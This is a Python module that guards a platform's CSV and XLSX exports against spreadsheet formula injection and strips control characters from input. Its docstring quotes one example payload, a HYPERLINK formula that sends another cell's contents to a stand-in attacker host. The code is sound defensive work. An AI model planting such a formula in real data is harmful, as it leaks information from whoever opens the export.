"""Text that is safe to store and to open in a spreadsheet.

Two things people type can hurt someone else later. A cell that begins
with ``= + - @`` (or a tab or carriage return before one) is a formula to
Excel and LibreOffice: a name like ``=HYPERLINK("http://evil.example/?x="&B2)``
typed into the public form would run in a manager's export. And a control
character (``\\x0b``, NUL…) breaks XLSX files, which may not contain it, and
PostgreSQL, which refuses NUL. So every file the platform writes goes
through `CsvWriter` or `xlsx_row`, and every text it reads, from a form or
an import cell, through `clean_text`.
"""
import csv
import re

#: Danish Excel opens semicolon-separated UTF-8 with a BOM correctly.
CSV_DELIMITER = ";"

#: What a spreadsheet takes as the start of a formula (OWASP's list).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
#: Written before such a cell, so that it is read as text; import drops it again.
QUOTE = "'"

#: C0 controls and DEL, except tab, newline and carriage return.
_CONTROLS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f]")
#: Tab, newline and carriage return, which a one-line field turns into spaces.
_LINE_BREAKS = re.compile(r"[\t\n\r]")


def clean_text(value, multiline=False):
    """Return `value` without control characters; a one-line text also loses its tabs and line breaks."""
    if not isinstance(value, str):
        return value
    value = _CONTROLS.sub("", value)
    return value if multiline else _LINE_BREAKS.sub(" ", value)


def safe_cell(value):
    """Return a cell's value so that no spreadsheet runs it as a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return QUOTE + value
    return value


def unquote_cell(text):
    """Undo `safe_cell` on a cell read back from an exported file."""
    if text.startswith(QUOTE) and text[1:].startswith(FORMULA_STARTS):
        return text[1:]
    return text


class CsvWriter:
    """A ``csv.writer`` in the platform's dialect whose cells pass through `safe_cell`."""

    def __init__(self, out):
        self._writer = csv.writer(out, delimiter=CSV_DELIMITER, lineterminator="\r\n")

    def writerow(self, row):
        self._writer.writerow([safe_cell(cell) for cell in row])

    def writerows(self, rows):
        for row in rows:
            self.writerow(row)


#: The most characters an XLSX cell holds; the writer refuses a longer text.
XLSX_CELL_LENGTH = 32_767


def xlsx_row(row):
    """Return a row for an XLSX sheet: safe cells cut to what a cell holds, and None (not written) for empty ones.

    (Only notes merged from several records could be that long; the file
    says what fits rather than failing.)
    """
    return [None if cell == "" else _cut(safe_cell(cell)) for cell in row]


def _cut(cell):
    return cell[:XLSX_CELL_LENGTH] if isinstance(cell, str) else cell
